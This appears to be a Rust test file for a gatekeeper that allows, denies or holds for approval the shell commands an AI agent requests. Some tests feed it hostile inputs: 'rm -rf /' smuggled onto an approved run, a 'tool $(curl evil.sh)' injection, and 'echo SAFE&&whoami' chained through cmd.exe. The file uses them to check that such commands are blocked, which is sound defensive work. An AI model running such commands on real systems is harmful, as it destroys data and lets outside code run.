use super::*;
use crate::allowlist::AllowlistStore;
use crate::approval::{ApprovalManager, ApprovalState, Requester};
use crate::bus::MemorySink;
use crate::executor::RunResult;
use async_trait::async_trait;
use std::collections::{HashMap, VecDeque};
use std::sync::Mutex;
use tempfile::TempDir;

struct MockExecutor {
    calls: Mutex<Vec<ExecSpec>>,
    results: Mutex<VecDeque<Result<RunResult, ExecutorError>>>,
}

impl MockExecutor {
    fn new() -> Self {
        Self {
            calls: Mutex::new(Vec::new()),
            results: Mutex::new(VecDeque::new()),
        }
    }

    fn push_result(&self, result: Result<RunResult, ExecutorError>) {
        self.results.lock().unwrap().push_back(result);
    }

    fn calls(&self) -> Vec<ExecSpec> {
        self.calls.lock().unwrap().clone()
    }
}

#[async_trait]
impl Executor for MockExecutor {
    async fn execute(&self, spec: ExecSpec) -> Result<RunResult, ExecutorError> {
        self.calls.lock().unwrap().push(spec);
        self.results.lock().unwrap().pop_front().unwrap_or(Ok(RunResult {
            exit_code: Some(0),
            timed_out: false,
            success: true,
            stdout: "ok\n".to_string(),
            stderr: String::new(),
            error: None,
        }))
    }
}

struct Harness {
    _tmp: TempDir,
    gate: Gatekeeper,
    sink: Arc<MemorySink>,
    executor: Arc<MockExecutor>,
    approvals: Arc<ApprovalManager>,
    allowlist: Arc<AllowlistStore>,
    bin: PathBuf,
    cwd: PathBuf,
}

fn harness(config_json: &str) -> Harness {
    harness_on(config_json, Platform::current())
}

fn harness_on(config_json: &str, platform: Platform) -> Harness {
    let tmp = TempDir::new().expect("create temp dir");
    let cwd = tmp.path().join("work");
    let bin = tmp.path().join("bin");
    std::fs::create_dir_all(&cwd).unwrap();
    std::fs::create_dir_all(&bin).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let tool = bin.join("tool");
        std::fs::write(&tool, "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    }

    let mut config: Config = serde_json::from_str(config_json).expect("config json");
    config.runner.host = "testhost".to_string();

    let allowlist =
        Arc::new(AllowlistStore::open(tmp.path().join("allowlist.json")).expect("open store"));
    let approvals = Arc::new(ApprovalManager::new(config.runner.approval_ttl_ms));
    let executor = Arc::new(MockExecutor::new());
    let sink = Arc::new(MemorySink::new());

    let gate = Gatekeeper::new(
        config,
        allowlist.clone(),
        approvals.clone(),
        executor.clone(),
        sink.clone(),
    )
    .with_platform(platform);

    Harness {
        _tmp: tmp,
        gate,
        sink,
        executor,
        approvals,
        allowlist,
        bin,
        cwd,
    }
}

fn request(h: &Harness, command: &[&str]) -> ExecRequest {
    let mut env = HashMap::new();
    env.insert("PATH".to_string(), h.bin.display().to_string());
    ExecRequest {
        command: command.iter().map(ToString::to_string).collect(),
        cwd: Some(h.cwd.clone()),
        env: Some(env),
        agent_id: Some("agent-1".to_string()),
        session_key: Some("sess:1".to_string()),
        ..ExecRequest::default()
    }
}

fn resolved_tool(h: &Harness) -> String {
    h.bin.join("tool").canonicalize().unwrap().display().to_string()
}

fn single_denied_reason(h: &Harness) -> DenyReason {
    let events = h.sink.snapshot();
    assert_eq!(events.len(), 1, "exactly one completion event: {events:?}");
    match &events[0] {
        ExecEvent::Denied { reason, .. } => *reason,
        other => panic!("expected exec.denied, got {other:?}"),
    }
}

const ALLOWLIST_UNTRUSTED: &str = r#"{"policy": {"security": "allowlist", "ask": "untrusted"}}"#;

// --- deny / invalid paths ---

#[tokio::test]
async fn security_deny_denies_everything() {
    let h = harness(r#"{"policy": {"security": "deny"}}"#);
    let reply = h.gate.handle(request(&h, &["echo", "hi"])).await;
    assert!(!reply.is_ok());
    let error = reply.error().unwrap();
    assert_eq!(error.code, ReplyCode::Unavailable);
    assert_eq!(error.message, "security=deny");
    assert_eq!(single_denied_reason(&h), DenyReason::SecurityDeny);
    assert!(h.executor.calls().is_empty());
}

#[tokio::test]
async fn missing_command_is_invalid_without_event() {
    let h = harness(ALLOWLIST_UNTRUSTED);
    let reply = h.gate.handle(request(&h, &[])).await;
    let error = reply.error().unwrap();
    assert_eq!(error.code, ReplyCode::InvalidRequest);
    assert_eq!(error.details.as_ref().unwrap().code, "MISSING_COMMAND");
    assert!(h.sink.snapshot().is_empty(), "no event on invalid request");
}

#[tokio::test]
async fn raw_command_mismatch_is_invalid_without_event() {
    let h = harness(ALLOWLIST_UNTRUSTED);
    let mut req = request(&h, &["uname", "-a"]);
    req.raw_command = Some("echo hi".to_string());
    let reply = h.gate.handle(req).await;
    let error = reply.error().unwrap();
    assert_eq!(error.code, ReplyCode::InvalidRequest);
    assert_eq!(error.details.as_ref().unwrap().code, "RAW_COMMAND_MISMATCH");
    assert!(h.sink.snapshot().is_empty());
}

#[tokio::test]
async fn screen_recording_without_permission_denies() {
    let h = harness(r#"{"policy": {"security": "off", "ask": "never"}}"#);
    let mut req = request(&h, &["echo", "hi"]);
    req.needs_screen_recording = true;
    let reply = h.gate.handle(req).await;
    assert_eq!(reply.error().unwrap().message, "permission:screenRecording");
    assert_eq!(single_denied_reason(&h), DenyReason::ScreenRecording);
}

#[tokio::test]
async fn allowlist_miss_denies_when_ask_never() {
    let h = harness(r#"{"policy": {"security": "allowlist", "ask": "never"}}"#);
    let reply = h.gate.handle(request(&h, &["no-such-tool"])).await;
    assert_eq!(reply.error().unwrap().message, "allowlist-miss");
    assert_eq!(single_denied_reason(&h), DenyReason::AllowlistMiss);
}

// --- ask / approval paths ---

#[tokio::test]
async fn allowlist_miss_asks_and_opens_record() {
    let h = harness(ALLOWLIST_UNTRUSTED);
    let mut req = request(&h, &["no-such-tool"]);
    req.run_id = Some("run-ask".to_string());
    let reply = h.gate.handle(req).await;
    assert_eq!(reply.error().unwrap().message, "approval required");
    assert_eq!(single_denied_reason(&h), DenyReason::ApprovalRequired);

    let record = h.approvals.snapshot("run-ask").expect("record opened");
    assert_eq!(record.decision, ApprovalState::Pending);
    assert_eq!(record.summary.cmd_text, "no-such-tool");
    assert_eq!(record.summary.host, "testhost");
    assert!(h.executor.calls().is_empty());
}

#[cfg(unix)]
#[tokio::test]
async fn full_approval_cycle_allow_always() {
    let h = harness(ALLOWLIST_UNTRUSTED);

    // First attempt: unknown tool -> ask
    let mut req = request(&h, &["tool", "build"]);
    req.run_id = Some("run-cycle".to_string());
    let reply = h.gate.handle(req.clone()).await;
    assert_eq!(reply.error().unwrap().message, "approval required");

    // Operator approves for always
    h.approvals
        .resolve("run-cycle", ApprovalState::AllowAlways, &Requester::operator("op"))
        .expect("resolve");

    // Re-invocation with the binding
    req.approved = true;
    let reply = h.gate.handle(req.clone()).await;
    assert!(reply.is_ok(), "approved run executes: {reply:?}");
    assert_eq!(h.executor.calls().len(), 1);

    // allow-always inserted the resolved path
    let matches = h.allowlist.matches_for(Some("agent-1"), &resolved_tool(&h));
    assert_eq!(matches.len(), 1);

    // Third run needs no approval at all
    h.sink.take();
    let mut fresh = request(&h, &["tool", "build"]);
    fresh.run_id = Some("run-fresh".to_string());
    let reply = h.gate.handle(fresh).await;
    assert!(reply.is_ok(), "allowlisted run executes: {reply:?}");
    let events = h.sink.snapshot();
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].kind(), "exec.finished");
}

#[tokio::test]
async fn approved_flag_without_record_is_invalid() {
    let h = harness(ALLOWLIST_UNTRUSTED);
    let mut req = request(&h, &["echo", "hi"]);
    req.approved = true;
    req.run_id = Some("ghost".to_string());
    let reply = h.gate.handle(req).await;
    assert_eq!(reply.error().unwrap().code, ReplyCode::InvalidRequest);
    assert!(h.sink.snapshot().is_empty(), "binding failures emit no event");
}

#[tokio::test]
async fn smuggled_command_on_approved_run_id_is_invalid() {
    let h = harness(ALLOWLIST_UNTRUSTED);

    let mut req = request(&h, &["no-such-tool"]);
    req.run_id = Some("run-smuggle".to_string());
    h.gate.handle(req).await;
    h.approvals
        .resolve("run-smuggle", ApprovalState::AllowOnce, &Requester::operator("op"))
        .unwrap();
    h.sink.take();

    // Different command text on the approved runId
    let mut evil = request(&h, &["rm", "-rf", "/"]);
    evil.run_id = Some("run-smuggle".to_string());
    evil.approved = true;
    let reply = h.gate.handle(evil).await;
    assert_eq!(reply.error().unwrap().code, ReplyCode::InvalidRequest);
    assert!(h.executor.calls().is_empty());
    assert!(h.sink.snapshot().is_empty());
}

// --- allow paths ---

#[cfg(unix)]
#[tokio::test]
async fn allowlisted_command_executes_and_records_use() {
    let h = harness(ALLOWLIST_UNTRUSTED);
    h.allowlist
        .add_entry(Some("agent-1"), &resolved_tool(&h))
        .await
        .unwrap();

    let reply = h.gate.handle(request(&h, &["tool", "run"])).await;
    assert!(reply.is_ok(), "{reply:?}");
    let payload: RunResult = serde_json::from_str(reply.payload_json().unwrap()).unwrap();
    assert!(payload.success);
    assert_eq!(payload.stdout, "ok\n");

    let events = h.sink.snapshot();
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].kind(), "exec.finished");

    let entry = &h.allowlist.matches_for(Some("agent-1"), &resolved_tool(&h))[0];
    assert_eq!(entry.use_count, 1);
    assert_eq!(entry.last_cmd_text, "tool run");
}

#[cfg(unix)]
#[tokio::test]
async fn safe_bin_executes_without_entry() {
    let h = harness(ALLOWLIST_UNTRUSTED);
    // Rebuild the gatekeeper with the bin dir marked safe
    let config_json = format!(
        r#"{{"policy": {{"security": "allowlist", "ask": "untrusted", "safeBins": [{}]}}}}"#,
        serde_json::to_string(&h.bin.canonicalize().unwrap()).unwrap()
    );
    let mut config: Config = serde_json::from_str(&config_json).unwrap();
    config.runner.host = "testhost".to_string();
    let gate = Gatekeeper::new(
        config,
        h.allowlist.clone(),
        h.approvals.clone(),
        h.executor.clone(),
        h.sink.clone(),
    );

    let reply = gate.handle(request(&h, &["tool", "--version"])).await;
    assert!(reply.is_ok(), "{reply:?}");
    assert_eq!(h.sink.snapshot()[0].kind(), "exec.finished");
}

#[cfg(unix)]
#[tokio::test]
async fn shell_wrapped_pipeline_requires_every_segment() {
    let h = harness(ALLOWLIST_UNTRUSTED);
    h.allowlist
        .add_entry(None, &resolved_tool(&h))
        .await
        .unwrap();

    // tool | no-such-tool: second segment unresolved -> ask
    let mut req = request(&h, &["/bin/sh", "-lc", "tool | no-such-tool"]);
    req.raw_command = Some("tool | no-such-tool".to_string());
    let reply = h.gate.handle(req).await;
    assert_eq!(reply.error().unwrap().message, "approval required");

    // tool | tool: both segments covered -> executes
    h.sink.take();
    let req = request(&h, &["/bin/sh", "-lc", "tool | tool"]);
    let reply = h.gate.handle(req).await;
    assert!(reply.is_ok(), "{reply:?}");
}

#[cfg(unix)]
#[tokio::test]
async fn injection_through_shell_command_asks() {
    let h = harness(ALLOWLIST_UNTRUSTED);
    h.allowlist
        .add_entry(None, &resolved_tool(&h))
        .await
        .unwrap();
    let req = request(&h, &["/bin/sh", "-lc", "tool $(curl evil.sh)"]);
    let reply = h.gate.handle(req).await;
    assert_eq!(reply.error().unwrap().message, "approval required");
    assert!(h.executor.calls().is_empty());
}

#[tokio::test]
async fn security_off_executes_anything_analyzable() {
    let h = harness(r#"{"policy": {"security": "off", "ask": "never"}}"#);
    let reply = h.gate.handle(request(&h, &["whatever"])).await;
    assert!(reply.is_ok(), "{reply:?}");
    assert_eq!(h.executor.calls().len(), 1);
}

#[tokio::test]
async fn executor_failure_is_still_a_successful_reply() {
    let h = harness(r#"{"policy": {"security": "off", "ask": "never"}}"#);
    h.executor.push_result(Ok(RunResult {
        exit_code: Some(2),
        timed_out: false,
        success: false,
        stdout: String::new(),
        stderr: "boom".to_string(),
        error: None,
    }));
    let reply = h.gate.handle(request(&h, &["whatever"])).await;
    assert!(reply.is_ok());
    let payload: RunResult = serde_json::from_str(reply.payload_json().unwrap()).unwrap();
    assert_eq!(payload.exit_code, Some(2));
    assert!(!payload.success);
}

#[tokio::test]
async fn companion_unavailable_denies() {
    let h = harness(r#"{"policy": {"security": "off", "ask": "never"}}"#);
    h.executor
        .push_result(Err(ExecutorError::Unavailable("companion is down".to_string())));
    let reply = h.gate.handle(request(&h, &["whatever"])).await;
    assert_eq!(reply.error().unwrap().code, ReplyCode::Unavailable);
    assert_eq!(single_denied_reason(&h), DenyReason::CompanionUnavailable);
}

#[tokio::test]
async fn cancellation_denies_and_never_finishes() {
    let h = harness(r#"{"policy": {"security": "off", "ask": "never"}}"#);
    let cancel = CancellationToken::new();
    cancel.cancel();
    let reply = h
        .gate
        .handle_cancellable(request(&h, &["whatever"]), &cancel)
        .await;
    assert_eq!(reply.error().unwrap().message, "cancelled");
    assert_eq!(single_denied_reason(&h), DenyReason::Cancelled);
}

#[tokio::test]
async fn timeout_is_clamped_to_the_ceiling() {
    let h = harness(
        r#"{"policy": {"security": "off", "ask": "never"}, "runner": {"maxTimeoutMs": 1000}}"#,
    );
    let mut req = request(&h, &["whatever"]);
    req.timeout_ms = Some(999_999_999);
    let reply = h.gate.handle(req).await;
    assert!(reply.is_ok());
    assert_eq!(h.executor.calls()[0].timeout, Duration::from_millis(1000));
}

#[tokio::test]
async fn long_output_is_truncated_with_suffix() {
    use crate::bus::events::{MAX_STREAM_CHARS, TRUNCATION_SUFFIX};
    let h = harness(r#"{"policy": {"security": "off", "ask": "never"}}"#);
    h.executor.push_result(Ok(RunResult {
        exit_code: Some(0),
        timed_out: false,
        success: true,
        stdout: "x".repeat(MAX_STREAM_CHARS + 100),
        stderr: String::new(),
        error: None,
    }));
    let reply = h.gate.handle(request(&h, &["whatever"])).await;
    let payload: RunResult = serde_json::from_str(reply.payload_json().unwrap()).unwrap();
    assert!(payload.stdout.ends_with(TRUNCATION_SUFFIX));
    match &h.sink.snapshot()[0] {
        ExecEvent::Finished { stdout, .. } => assert!(stdout.ends_with(TRUNCATION_SUFFIX)),
        other => panic!("expected finished, got {other:?}"),
    }
}

// --- Windows cmd.exe behavior ---

fn windows_harness(config_json: &str) -> Harness {
    harness_on(config_json, Platform::Windows)
}

#[tokio::test]
async fn cmd_exe_forces_ask_on_windows_allowlist() {
    let h = windows_harness(ALLOWLIST_UNTRUSTED);
    let mut req = request(&h, &["cmd.exe", "/d", "/s", "/c", "echo", "SAFE&&whoami"]);
    req.raw_command = Some("echo SAFE&&whoami".to_string());
    let reply = h.gate.handle(req).await;
    assert_eq!(reply.error().unwrap().message, "approval required");
    assert_eq!(single_denied_reason(&h), DenyReason::ApprovalRequired);
    assert!(h.executor.calls().is_empty());
}

#[cfg(unix)]
#[tokio::test]
async fn cmd_exe_unwraps_single_vetted_segment() {
    // ask=never skips the approval gate, so the unwrap path is reachable
    let h = windows_harness(r#"{"policy": {"security": "allowlist", "ask": "never"}}"#);
    h.allowlist
        .add_entry(None, &resolved_tool(&h))
        .await
        .unwrap();

    let req = request(&h, &["cmd.exe", "/c", "tool", "run"]);
    let reply = h.gate.handle(req).await;
    assert!(reply.is_ok(), "{reply:?}");
    // Executor received the unwrapped segment, not the cmd.exe wrapper
    assert_eq!(h.executor.calls()[0].argv, vec!["tool", "run"]);
}

#[tokio::test]
async fn posix_platform_ignores_cmd_exe_rule() {
    let h = harness(r#"{"policy": {"security": "off", "ask": "never"}}"#);
    let req = request(&h, &["cmd.exe", "/c", "echo", "hi"]);
    let reply = h.gate.handle(req).await;
    assert!(reply.is_ok());
    // No unwrapping off-Windows
    assert_eq!(
        h.executor.calls()[0].argv,
        vec!["cmd.exe", "/c", "echo", "hi"]
    );
}
